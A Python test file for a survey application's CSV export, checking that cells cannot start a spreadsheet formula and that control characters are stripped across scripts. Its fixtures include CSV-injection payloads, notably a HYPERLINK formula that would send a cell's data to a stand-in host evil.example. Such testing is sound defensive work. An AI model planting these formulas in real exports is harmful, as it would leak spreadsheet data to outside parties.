"""Exports a spreadsheet opens cannot carry formulas (OWASP's CSV-injection rule), and free text
is stored without control characters, whatever script it is written in."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest
from sqlalchemy import select
from sqlalchemy.orm import Session, sessionmaker

from store.models import SurveyResponse
from store.validation import csv_cell, strip_controls
from tests.support.cast import make_match
from tests.test_survey_results import BASELINE, answer, cli


@pytest.mark.parametrize(
    ("given", "cell"),
    [
        (
            '=HYPERLINK("http://x.example/?"&A1,"klik")',
            '\'=HYPERLINK("http://x.example/?"&A1,"klik")',
        ),
        ("+45 2012", "'+45 2012"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "' =1"),
        ("\r=1", "' =1"),
        ("hej\x00\x07 med\x1b[31m dig", "hej med[31m dig"),
        ("Дети, 子供, أطفال, ørkesløs", "Дети, 子供, أطفال, ørkesløs"),
        ("linje 1\nlinje 2", "linje 1 linje 2"),
    ],
)
def test_a_csv_cell_cannot_start_a_formula_or_hold_control_characters(
    given: str, cell: str
) -> None:
    assert csv_cell(given) == cell


def test_strip_controls_keeps_letters_of_every_script_and_line_breaks() -> None:
    assert strip_controls("Søren\x00 الأطفال\u0007\nनमस्ते\t👋🏽") == "Søren الأطفال\nनमस्ते\t👋🏽"


def test_a_formula_comment_reaches_the_export_as_text_not_a_formula(
    db_url: str, session_factory: sessionmaker[Session], tmp_path: Path
) -> None:
    # Safe exports: "=HYPERLINK(...)" with NUL and BEL reached `survey export --with-text` raw.
    comment = '=HYPERLINK("http://evil.example/?d="&B2,"Se billeder")\x00\x07'
    with session_factory.begin() as session:
        match = make_match(session)
        answer(
            session,
            match,
            "baseline",
            {"parent_everyday": "3", "comment": comment},
            done=True,
            at=BASELINE,
        )
    with session_factory() as session:
        stored = session.scalars(
            select(SurveyResponse.value).where(SurveyResponse.question_id == "comment")
        ).one()
    assert stored == '=HYPERLINK("http://evil.example/?d="&B2,"Se billeder")'  # cleaned, kept

    out = tmp_path / "export.csv"
    result = cli(
        db_url, "survey", "export", "--survey", "parent-sample", "--out", str(out), "--with-text"
    )
    assert result.exit_code == 0, result.output
    text = out.read_text(encoding="utf-8")
    assert "\x00" not in text and "\x07" not in text
    with out.open(encoding="utf-8", newline="") as handle:
        rows = list(csv.DictReader(handle))
    cells = [value for row in rows for value in row.values()]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert rows[0]["comment_baseline"] == "'" + stored


def test_the_export_keeps_plain_answers_as_they_were(
    db_url: str, session_factory: sessionmaker[Session], tmp_path: Path
) -> None:
    with session_factory.begin() as session:
        answer(
            session,
            make_match(session),
            "baseline",
            {"parent_everyday": "3"},
            done=True,
            at=BASELINE,
        )
    out = tmp_path / "plain.csv"
    assert (
        cli(db_url, "survey", "export", "--survey", "parent-sample", "--out", str(out)).exit_code
        == 0
    )
    with out.open(encoding="utf-8", newline="") as handle:
        row = next(csv.DictReader(handle))
    assert row["parent_everyday_baseline"] == "3"
    assert row["baseline_completed_on"] == "2026-03-03"
